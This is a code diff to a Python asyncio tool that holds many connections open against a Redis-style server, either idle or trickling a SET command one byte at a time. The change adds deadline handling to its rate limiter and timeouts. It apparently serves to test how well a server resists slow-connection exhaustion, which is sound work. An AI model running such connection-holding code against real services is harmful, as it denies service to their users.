@@ -114,25 +114,30 @@ async def benign(proto, host, port, secs, path="/index.html"):
 class Pacer:
     """At most RATE connection attempts per second, shared by all workers."""
 
-    def __init__(self, rate):
+    def __init__(self, rate, deadline):
         self.gap = 1.0 / rate
         self.next = time.monotonic()
+        self.deadline = deadline
 
     async def wait(self):
+        """False when the caller's turn would come after the deadline."""
         now = time.monotonic()
         at = max(now, self.next)
+        if at >= self.deadline:
+            return False
         self.next = at + self.gap
         if at > now:
             await asyncio.sleep(at - now)
+        return True
 
 
 async def holder(host, port, pacer, deadline, stats, trickle):
     """One attack slot: connect, hold (trickling or idle) until closed, again."""
-    while time.monotonic() < deadline:
-        await pacer.wait()
+    while await pacer.wait():
         writer = None
         try:
-            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 3)
+            left = max(0.05, min(3, deadline - time.monotonic()))
+            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), left)
             stats["opened"] += 1
             msg = resp_command(b"SET", b"k" * 16, b"v" * 64) if trickle else b""
             i = 0
@@ -140,9 +145,10 @@ async def holder(host, port, pacer, deadline, stats, trickle):
                 if trickle and i < len(msg):
                     writer.write(msg[i:i + 1])
                     i += 1
-                # wait for the server to close us, or 5 s, whichever first
+                # wait for the server to close us, 5 s, or the end, whichever first
+                left = max(0.05, min(5, deadline - time.monotonic()))
                 try:
-                    data = await asyncio.wait_for(reader.read(4096), 5)
+                    data = await asyncio.wait_for(reader.read(4096), left)
                     if not data:
                         stats["closed"] += 1
                         break
@@ -158,7 +164,7 @@ async def holder(host, port, pacer, deadline, stats, trickle):
 
 async def hold_many(host, port, conns, rate, secs, trickle):
     deadline = time.monotonic() + secs
-    pacer = Pacer(rate)
+    pacer = Pacer(rate, deadline)
     stats = {"opened": 0, "closed": 0, "failed": 0}
     await asyncio.gather(*(holder(host, port, pacer, deadline, stats, trickle) for _ in range(conns)))
     print("RESULT opened=%(opened)d closed_by_server=%(closed)d failed=%(failed)d" % stats)
